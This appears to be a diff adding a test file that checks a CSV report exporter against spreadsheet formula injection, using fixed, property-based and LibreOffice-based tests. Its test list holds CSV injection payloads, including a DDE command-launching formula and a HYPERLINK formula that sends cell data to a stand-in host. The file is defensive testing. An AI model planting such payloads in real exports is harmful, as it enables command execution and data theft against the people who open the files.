@@ -1,0 +1,178 @@
+import { execFileSync } from 'node:child_process'
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import fc from 'fast-check'
+import { csvOf, harmless } from '../../../src/admin/reports/csv.js'
+import { number, text } from '../../../src/admin/reports/table.js'
+
+const hostile = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '  =1+1',
+  '\u00a0=1+1',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+  '"=1+1',
+  "'=1+1",
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.test/?"&A1,"click")',
+  'fine;=1+1',
+  'fine,=1+1',
+  'fine\t=1+1',
+  'fine\n=1+1',
+  'fine\r\n=1+1',
+  'fine;" =1+1',
+  'fine|+1',
+  ';=1+1',
+  '";=1+1',
+  'fine"\n"=1+1',
+  '\0=1+1',
+]
+
+const columns = [text('a', 'A'), text('b', 'B'), number('c', 'C')]
+
+function file(values: readonly string[]): string {
+  return csvOf({ columns, rows: values.map((value, at) => ({ cells: { a: value, b: value, c: at } })) })
+}
+
+/** RFC 4180 with a separator of the reader's choice, as lenient as spreadsheets are. */
+function parse(csv: string, separator: string): readonly (readonly string[])[] {
+  const rows: string[][] = [['']]
+  let quoted = false
+  const add = (character: string) => {
+    const row = rows.at(-1) as string[]
+    row[row.length - 1] += character
+  }
+  for (let at = csv.startsWith('\ufeff') ? 1 : 0; at < csv.length; at += 1) {
+    const character = csv[at] as string
+    const row = rows.at(-1) as string[]
+    if (quoted) {
+      if (character !== '"') add(character)
+      else if (csv[at + 1] === '"') {
+        add('"')
+        at += 1
+      } else quoted = false
+    } else if (character === '"' && row.at(-1) === '') quoted = true
+    else if (character === separator) row.push('')
+    else if (character === '\n' || character === '\r') rows.push([''])
+    else add(character)
+  }
+  return rows
+}
+
+const formula = /^[=+\-@\t\r＝＋－＠]/
+
+describe('A report as a file for spreadsheets', () => {
+  test('keeps harmless text as it is, also with commas, quotes and line breaks', () => {
+    const values = ['Ann O’Hara', 'a, b', 'say "so"', 'two\nlines', 'R&D', '日本語', 'a-b', '1 + 1', '']
+    const rows = parse(file(values), ',')
+    expect(rows[0]).toEqual(['a', 'b', 'c'])
+    expect(
+      rows
+        .filter((row) => row.length === 3)
+        .slice(1)
+        .map(([a]) => a),
+    ).toEqual(values)
+  })
+
+  test('begins with a byte order mark and ends each line with CR LF', () => {
+    expect(file(['x']).slice(0, 1)).toBe('\ufeff')
+    expect(file(['x'])).toBe('\ufeff"a","b","c"\r\n"x","x","0"\r\n')
+  })
+
+  test.each(hostile)('has no formula in any cell for %j', (value) => {
+    for (const separator of [',', ';', '\t', '|'])
+      for (const row of parse(file([value]), separator))
+        for (const cell of row) expect(cell).not.toMatch(formula)
+  })
+
+  test('puts an apostrophe in front of a formula, and only there', () => {
+    expect(harmless('=1+1')).toBe("'=1+1")
+    expect(harmless('1=1')).toBe('1=1')
+    expect(harmless('a;=1')).toBe("a;'=1")
+  })
+
+  test('has no formula whatever text there is, whichever separator is believed', () => {
+    const parts = fc.constantFrom(
+      '=',
+      '+',
+      '-',
+      '@',
+      ';',
+      ',',
+      '\t',
+      '\r',
+      '\n',
+      '"',
+      "'",
+      ' ',
+      'x',
+      '|',
+      '＝',
+    )
+    fc.assert(
+      fc.property(fc.array(parts, { maxLength: 12 }), fc.array(parts, { maxLength: 12 }), (one, other) => {
+        const csv = file([one.join(''), other.join('')])
+        return [',', ';', '\t', '|'].every((separator) =>
+          parse(csv, separator).every((row) => row.every((cell) => !formula.test(cell))),
+        )
+      }),
+      { numRuns: 2000 },
+    )
+  })
+
+  test('says in the file itself that rows are missing', () => {
+    const csv = csvOf({ columns, rows: [{ cells: { a: 'x' } }], cut: 'Only the first 1 rows stand here.' })
+    expect(csv).toContain('"Only the first 1 rows stand here.","",""\r\n')
+    expect(csvOf({ columns, rows: [{ cells: { a: 'x' } }] })).not.toContain('Only the first')
+  })
+
+  const office = '/usr/bin/soffice'
+  const withOffice = existsSync(office) ? test : test.skip
+  withOffice(
+    'is plain text to LibreOffice: nothing in it is calculated',
+    () => {
+      const folder = mkdtempSync(join(tmpdir(), 'csv-'))
+      try {
+        const values = hostile.filter((value) => !value.includes('\0'))
+        writeFileSync(join(folder, 'report.csv'), file(values))
+        writeFileSync(join(folder, 'twin.csv'), '"=1+1","x"\r\n')
+        const run = (name: string, options: string) =>
+          execFileSync(
+            office,
+            [
+              `-env:UserInstallation=file://${folder}/profile`,
+              '--headless',
+              `--infilter=CSV:${options}`,
+              '--convert-to',
+              'fods',
+              '--outdir',
+              folder,
+              join(folder, name),
+            ],
+            { stdio: 'pipe' },
+          )
+        // Comma or semicolon; UTF-8; every cell standard; formulas are evaluated where there are any
+        for (const separator of ['44', '59']) {
+          run('report.csv', `${separator},34,76,1,,0,false,true,false,false,false,-1,true`)
+          expect(readFileSync(join(folder, 'report.fods'), 'utf8')).not.toContain('table:formula=')
+        }
+        run('twin.csv', '44,34,76,1,,0,false,true,false,false,false,-1,true')
+        expect(readFileSync(join(folder, 'twin.fods'), 'utf8')).toContain('table:formula=')
+      } finally {
+        rmSync(folder, { recursive: true, force: true })
+      }
+    },
+    120_000,
+  )
+})
